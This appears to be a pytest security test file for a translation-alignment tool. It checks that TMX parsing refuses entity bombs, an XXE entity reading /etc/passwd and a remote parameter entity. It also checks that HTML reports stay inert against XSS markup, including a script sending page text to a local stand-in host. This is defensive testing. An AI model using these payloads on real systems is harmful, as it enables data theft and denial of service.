"""Hostile TMX, JSONL and HTML: entity attacks however hidden, malformed fields, markup in every field."""

from __future__ import annotations

import json
from pathlib import Path

import lxml.html
import pytest

from aligner.io.pages import source_hash

from .conftest import Snapshot, assert_clean_error, run

HEADER = ('<header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="t" adminlang="en" '
          'srclang="fr" datatype="plaintext"/>')


def tmx_text(body: str = "", prologue: str = "", score: str = "0.9") -> str:
    unit = (f'<tu><prop type="x-align-score">{score}</prop><tuv xml:lang="fr"><seg>Le 5 mai {body}</seg></tuv>'
            f'<tuv xml:lang="ar"><seg>في 5 ماي {body}</seg></tuv></tu>')
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{prologue}<tmx version="1.4">{HEADER}<body>{unit}</body></tmx>\n'


BOMB = ('<!DOCTYPE tmx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n')
XXE = '<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
PARAM = '<!DOCTYPE tmx [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>\n'
PADDED = "<!--" + "x" * 70_000 + "-->\n" + XXE
PADDED_PI = "<?pad " + "y" * 200_000 + "?>\n" + BOMB
SPACES = " " * 300_000 + BOMB
MANY_COMMENTS = "".join(f"<!-- {i} -->\n" for i in range(20_000)) + BOMB

HOSTILE_TMX = {
    "bomb": tmx_text("&d;", BOMB), "xxe": tmx_text("&xxe;", XXE), "param-entity": tmx_text("", PARAM),
    "padded-70k-comment": tmx_text("&xxe;", PADDED), "padded-pi": tmx_text("&d;", PADDED_PI),
    "padded-spaces": tmx_text("&d;", SPACES), "many-comments": tmx_text("&d;", MANY_COMMENTS),
}
TMX_COMMANDS = {
    "validate": ["tmx", "validate", "{tmx}"], "stats": ["tmx", "stats", "{tmx}"],
    "convert": ["tmx", "convert", "{tmx}", "-o", "{out}.jsonl"], "qa": ["qa", "{tmx}"],
    "merge": ["tmx", "merge", "{tmx}", "-o", "{out}.tmx"], "filter": ["tmx", "filter", "{tmx}", "-o", "{out}.tmx"],
    "split": ["tmx", "split", "{tmx}", "-o", "{out}.tmx", "--split-size", "8kB"],
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_TMX))
@pytest.mark.parametrize("command", sorted(TMX_COMMANDS))
def test_entity_attacks_refused(kind: str, command: str, tmp_path: Path) -> None:
    path = tmp_path / "hostile.tmx"
    path.write_text(HOSTILE_TMX[kind], encoding="utf-8")
    before = Snapshot.of(tmp_path)
    args = [a.format(tmx=path, out=tmp_path / "out") for a in TMX_COMMANDS[command]]
    res = run(args)
    assert "valid TMX 1.4" not in res.output and "passwd" not in res.output and "root:" not in res.output
    if command == "validate":
        assert res.exit_code == 1 and "entit" in res.output and "Traceback" not in res.output
    else:
        assert_clean_error(res, path)
        assert "entit" in res.output
    before.assert_unchanged(tmp_path)


@pytest.mark.parametrize("score", ["nan", "abc", "inf", "-1e309", "", "1e400"])
@pytest.mark.parametrize("command", ["stats", "qa", "filter", "merge"])
def test_unreadable_score_is_no_score(score: str, command: str, tmp_path: Path) -> None:
    path = tmp_path / "scores.tmx"
    path.write_text(tmx_text(score=score), encoding="utf-8")
    res = run([a.format(tmx=path, out=tmp_path / "out") for a in TMX_COMMANDS[command]])
    assert res.exit_code == 0 and "Traceback" not in res.output, res.output


def bead(**fields: object) -> dict[str, object]:
    rec: dict[str, object] = {"type": "bead", "src_ids": [0], "tgt_ids": [0], "source": "Le 5 mai.",
                              "target": "في 5 ماي.", "confidence": 0.9, "src_kinds": ["sentence"],
                              "tgt_kinds": ["sentence"]}
    rec.update(fields)
    return rec


BAD_RECORDS = {
    "props-text": bead(props="abc", confidence=None), "tgt-kinds-number": bead(tgt_kinds=5),
    "src-ids-huge": bead(src_ids=[1_000_000_000_000]), "src-ids-negative": bead(src_ids=[-1]),
    "src-ids-text": bead(src_ids="0"), "src-ids-bool": bead(src_ids=[True]),
    "kinds-length": bead(src_kinds=["sentence", "heading"]), "source-object": bead(source={"a": 1}),
    "confidence-text": bead(confidence="high"), "type-number": bead(type=3),
}
JSONL_COMMANDS = {
    "report": ["report", "{jsonl}", "-o", "{out}.html"], "qa": ["qa", "{jsonl}"],
    "convert": ["tmx", "convert", "{jsonl}", "-o", "{out}.tmx"],
}


@pytest.mark.parametrize("kind", sorted(BAD_RECORDS))
@pytest.mark.parametrize("command", sorted(JSONL_COMMANDS))
def test_malformed_jsonl_fields(kind: str, command: str, tmp_path: Path) -> None:
    path = tmp_path / "bad.jsonl"
    path.write_text(json.dumps(bead()) + "\n" + json.dumps(BAD_RECORDS[kind]) + "\n", encoding="utf-8")
    before = Snapshot.of(tmp_path)
    res = run([a.format(jsonl=path, out=tmp_path / "out") for a in JSONL_COMMANDS[command]])
    assert_clean_error(res, f"{path}, line 2")
    before.assert_unchanged(tmp_path)


@pytest.mark.parametrize("token", ["NaN", "Infinity", "-Infinity"])
def test_non_finite_confidence(token: str, tmp_path: Path) -> None:
    path = tmp_path / "nan.jsonl"
    path.write_text(json.dumps(bead()).replace("0.9", token) + "\n", encoding="utf-8")
    assert_clean_error(run(["report", path, "-o", tmp_path / "r.html"]), path)


MARKUP = ['<script>fetch("http://127.0.0.1:9/?"+document.body.innerText)</script>',
          '<img src=x onerror="fetch(\'http://127.0.0.1:9/\')">', '"><svg onload=alert(1)>',
          "</td></tr></table><iframe src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=http://x'>",
          "<style>*{background:url(http://127.0.0.1:9/)}</style>", "<base href='http://127.0.0.1:9/'>",
          "<form action='http://127.0.0.1:9/'><button>x</button></form>", "' onmouseover='alert(1)"]


def hostile_jsonl(path: Path) -> None:
    """Markup in every field a record has."""
    recs: list[dict[str, object]] = [{"type": "header", "source": MARKUP[0], "target": MARKUP[1],
                                      "src_lang": MARKUP[2], "tgt_lang": MARKUP[3], "signature": MARKUP[4]}]
    for k, m in enumerate(MARKUP):
        recs.append(bead(src_ids=[k], tgt_ids=[k], source=f"Le {k} mai {m}", target=f"في {k} ماي {m}",
                         src_kinds=[m], tgt_kinds=[MARKUP[-1 - k]], signature=m))
    recs.append({"type": "dropped", "side": "src", "line": 1, "text": MARKUP[5], "reason": MARKUP[6], "before": 0})
    recs.append({"type": "dropped", "side": "tgt", "line": 1, "text": MARKUP[7], "reason": MARKUP[8], "before": 0})
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in recs), encoding="utf-8")


def assert_inert(page: str) -> None:
    """No element, attribute or policy that lets the page run or fetch anything but its own script."""
    doc = lxml.html.document_fromstring(page)
    tags = {el.tag for el in doc.iter() if isinstance(el.tag, str)}
    assert not tags & {"img", "iframe", "form", "base", "button", "object", "embed"}, tags
    for el in doc.iter():
        if isinstance(el.tag, str):
            assert not [a for a in el.attrib if a.lower().startswith("on")], (el.tag, dict(el.attrib))
            assert "style" not in el.attrib, el.tag
    metas = doc.xpath("//meta[@http-equiv]")
    assert [m.get("http-equiv") for m in metas] == ["Content-Security-Policy"]
    policy = metas[0].get("content")
    assert "default-src 'none'" in policy and "unsafe-inline" not in policy and "form-action 'none'" in policy
    scripts = doc.xpath("//script")
    assert len(doc.xpath("//style")) <= 1 and len(scripts) <= 1
    for s in scripts:
        assert source_hash(s.text or "") in policy


def test_review_page_escapes_every_field(tmp_path: Path) -> None:
    src = tmp_path / "hostile.jsonl"
    hostile_jsonl(src)
    res = run(["report", src, "-o", tmp_path / "r.html"])
    assert res.exit_code == 0, res.output
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert_inert(page)
    assert "onerror=" not in page.replace("onerror=&quot;", "")


def test_qa_page_escapes_every_field(tmp_path: Path) -> None:
    src = tmp_path / "hostile.jsonl"
    hostile_jsonl(src)
    res = run(["qa", src, "--format", "html", "-o", tmp_path / "qa.html"])
    assert res.exit_code == 0, res.output
    assert_inert((tmp_path / "qa.html").read_text(encoding="utf-8"))


@pytest.mark.parametrize("ch", ["\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\r"])
@pytest.mark.parametrize("command", ["report", "qa", "convert"])
def test_own_jsonl_with_line_separators_reads_back(ch: str, command: str, tmp_path: Path) -> None:
    """JSONL written with ensure_ascii=False keeps U+2028 etc. raw: readers split on \\n only."""
    path = tmp_path / "sep.jsonl"
    path.write_text(json.dumps(bead(source=f"Le 5{ch}mai.", target=f"في 5{ch}ماي."), ensure_ascii=False) + "\n",
                    encoding="utf-8", newline="")
    res = run([a.format(jsonl=path, out=tmp_path / "out") for a in JSONL_COMMANDS[command]])
    assert res.exit_code == 0, res.output
